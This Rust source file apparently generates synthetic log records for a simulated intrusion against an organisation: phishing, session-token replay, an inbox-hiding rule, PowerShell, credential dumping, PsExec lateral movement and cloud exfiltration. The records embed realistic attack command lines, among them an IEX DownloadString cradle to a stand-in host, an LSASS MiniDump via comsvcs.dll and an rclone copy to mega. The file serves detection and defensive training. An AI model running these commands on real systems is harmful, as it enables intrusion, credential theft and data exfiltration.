//! The attack: a phished finance assistant, and where the intruder goes from there.

use kernel::Timestamp;
use serde_json::json;

use super::cloud::{self, Mail, Place};
use super::network::{self, Flow};
use super::organisation::{Organisation, Person, STATIONS};
use super::windows::{Event, Process, Seat};
use super::{Dice, MINUTE_US, Record, Step};

/// The intruder's address: a hosting provider in a country where nobody of the organisation works.
const INTRUDER: &str = "203.0.113.66";
const DROP_SITE: &str = "198.51.100.200";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RUNDLL32: &str = "C:\\Windows\\System32\\rundll32.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

/// Every step from `start`, the minute of the phishing mail.
pub(super) fn day(dice: &mut Dice, organisation: &Organisation, start: Timestamp) -> Vec<Record> {
    let victim = organisation.member(STATIONS[1], "Finance", 0).clone();
    let administrator = organisation.member(STATIONS[0], "Information Technology", 0).clone();
    let minute = |minutes: i64| start.plus_micros(minutes * MINUTE_US);
    let mut records = Vec::new();
    phishing(dice, &victim, organisation, minute(0), &mut records);
    token_theft(dice, &victim, minute(6), &mut records);
    powershell(dice, &victim, minute(14), &mut records);
    credential_dump(dice, &victim, minute(21), &mut records);
    lateral_movement(dice, &victim, &administrator, minute(28), &mut records);
    exfiltration(dice, &administrator, minute(36), &mut records);
    records
}

/// A mail to the whole finance desk; one person clicks.
fn phishing(dice: &mut Dice, victim: &Person, organisation: &Organisation, at: Timestamp, records: &mut Vec<Record>) {
    let step = Some(Step::Phishing);
    let mail = Mail {
        from: "payroll",
        from_domain: "irco-example.net",
        subject: "Your November entitlement: confirm today",
        url_count: 1,
    };
    let desk =
        organisation.people.iter().filter(|person| person.department == "Finance" && person.account != victim.account);
    for (number, person) in desk.take(12).enumerate() {
        records.push(cloud::mail(dice, at.plus_micros(number as i64 * 400_000), person, &mail, step).1);
    }
    let (message, delivered) = cloud::mail(dice, at, victim, &mail, step);
    records.push(delivered);
    let clicked = at.plus_micros(3 * MINUTE_US);
    records.push(cloud::click(
        clicked,
        victim,
        &message,
        "https://login.irco-example.net/common/oauth2/authorize",
        step,
    ));
}

/// The session token is replayed from the intruder's machine; then a rule hides the answers.
fn token_theft(dice: &mut Dice, victim: &Person, at: Timestamp, records: &mut Vec<Record>) {
    let place = Place {
        address: INTRUDER,
        country: "XZ",
        city: "Unknown",
        managed_device: false,
        user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    };
    records.push(cloud::sign_in(dice, at, victim, &place, "0", Some(Step::TokenTheft)));
    records.push(cloud::sign_in(dice, at.plus_micros(31_000_000), victim, &place, "0", Some(Step::TokenTheft)));
    let parameters = json!([
        {"Name": "Name", "Value": "."},
        {"Name": "SubjectOrBodyContainsWords", "Value": "payroll;entitlement;password;security"},
        {"Name": "MoveToFolder", "Value": "RSS Subscriptions"},
        {"Name": "MarkAsRead", "Value": "True"},
    ]);
    let made = at.plus_micros(2 * MINUTE_US);
    records.push(cloud::mailbox(made, victim, "New-InboxRule", INTRUDER, &parameters, Some(Step::MailboxRule)));
}

/// A follow-up attachment starts an encoded PowerShell that fetches the next stage.
fn powershell(dice: &mut Dice, victim: &Person, at: Timestamp, records: &mut Vec<Record>) {
    let seat = Seat::of(victim);
    let step = Some(Step::PowerShell);
    let event = |seconds: i64| Event { seat: &seat, at: at.plus_micros(seconds * 1_000_000), step };
    let encoded = "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA";
    let command_line = format!("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded}");
    let process = Process {
        image: POWERSHELL,
        command_line: &command_line,
        parent_image: OUTLOOK,
        parent_command_line: "OUTLOOK.EXE",
    };
    records.push(event(0).process(dice, &process));
    records.push(event(0).audited_process(dice, &process));
    records.push(event(1).script_block(
        dice,
        "$c=New-Object Net.WebClient; IEX ($c.DownloadString('https://cdn.irco-example.net/u.ps1'))",
    ));
    records.push(event(2).dns_query(POWERSHELL, "cdn.irco-example.net", INTRUDER));
    records.push(event(3).connection(dice, POWERSHELL, INTRUDER, "cdn.irco-example.net", 443));
    let whoami = Process {
        image: "C:\\Windows\\System32\\whoami.exe",
        command_line: "whoami /all",
        parent_image: POWERSHELL,
        parent_command_line: &command_line,
    };
    records.push(event(40).process(dice, &whoami));
}

/// The memory of the local security authority is written to a file with what Windows brings along.
fn credential_dump(dice: &mut Dice, victim: &Person, at: Timestamp, records: &mut Vec<Record>) {
    let seat = Seat::of(victim);
    let step = Some(Step::CredentialDump);
    let event = |seconds: i64| Event { seat: &seat, at: at.plus_micros(seconds * 1_000_000), step };
    let process = Process {
        image: RUNDLL32,
        command_line: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.dmp full",
        parent_image: POWERSHELL,
        parent_command_line: "powershell.exe -NoP",
    };
    records.push(event(0).process(dice, &process));
    records.push(event(0).audited_process(dice, &process));
    records.push(event(1).process_access(dice, RUNDLL32, "C:\\Windows\\System32\\lsass.exe", "0x1fffff"));
    records.push(event(2).file_created(RUNDLL32, "C:\\Windows\\Temp\\d.dmp"));
}

/// With an administrator's credentials to the file server, by a remote service.
fn lateral_movement(
    dice: &mut Dice,
    victim: &Person,
    administrator: &Person,
    at: Timestamp,
    records: &mut Vec<Record>,
) {
    let step = Some(Step::LateralMovement);
    let own = Seat::of(victim);
    let server = Seat::server("pmr-srv-files", &administrator.domain_account(), "10.10.0.15");
    let on = |seat, seconds: i64| Event { seat, at: at.plus_micros(seconds * 1_000_000), step };
    let process = Process {
        image: "C:\\Windows\\Temp\\PsExec64.exe",
        command_line: "PsExec64.exe -accepteula -s \\\\pmr-srv-files cmd.exe",
        parent_image: POWERSHELL,
        parent_command_line: "powershell.exe -NoP",
    };
    records.push(on(&own, 0).process(dice, &process));
    records.push(on(&own, 1).connection(dice, "C:\\Windows\\Temp\\PsExec64.exe", "10.10.0.15", "pmr-srv-files", 445));
    records.push(on(&server, 1).logon(dice, 3, &victim.address, true));
    records.push(on(&server, 2).share_access(&victim.address, "\\\\*\\ADMIN$", "PSEXESVC.exe"));
    records.push(on(&server, 3).service_installed("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"));
    let shell = Process {
        image: CMD,
        command_line: "cmd.exe",
        parent_image: "C:\\Windows\\PSEXESVC.exe",
        parent_command_line: "C:\\Windows\\PSEXESVC.exe",
    };
    records.push(on(&server, 4).process(dice, &shell));
}

/// The beneficiary registry is packed and copied to a cloud drive.
fn exfiltration(dice: &mut Dice, administrator: &Person, at: Timestamp, records: &mut Vec<Record>) {
    let step = Some(Step::Exfiltration);
    let server = Seat::server("pmr-srv-files", &administrator.domain_account(), "10.10.0.15");
    let event = |seconds: i64| Event { seat: &server, at: at.plus_micros(seconds * 1_000_000), step };
    let pack = Process {
        image: "C:\\Windows\\Temp\\7z.exe",
        command_line: "7z.exe a -pR3lief -mhe=on C:\\Windows\\Temp\\r.7z D:\\shared\\protection\\beneficiaries",
        parent_image: CMD,
        parent_command_line: "cmd.exe",
    };
    let copy = Process {
        image: "C:\\Windows\\Temp\\rclone.exe",
        command_line: "rclone.exe copy C:\\Windows\\Temp\\r.7z mega:backup --no-check-certificate --transfers 8",
        parent_image: CMD,
        parent_command_line: "cmd.exe",
    };
    records.push(event(0).process(dice, &pack));
    records.push(event(90).process(dice, &copy));
    records.push(event(92).dns_query("C:\\Windows\\Temp\\rclone.exe", "g.api.mega.co.nz", DROP_SITE));
    records.push(event(93).connection(dice, "C:\\Windows\\Temp\\rclone.exe", DROP_SITE, "g.api.mega.co.nz", 443));
    for part in 0..4 {
        let flow = Flow {
            source: "10.10.0.15",
            destination: DROP_SITE,
            port: 443,
            bytes_out: 900_000_000 + part * 41_000_000,
            bytes_in: 120_000,
            allowed: true,
        };
        let at = at.plus_micros((120 + part as i64 * 60) * 1_000_000);
        records.push(network::firewall(dice, at, STATIONS[0], &flow, step));
    }
}
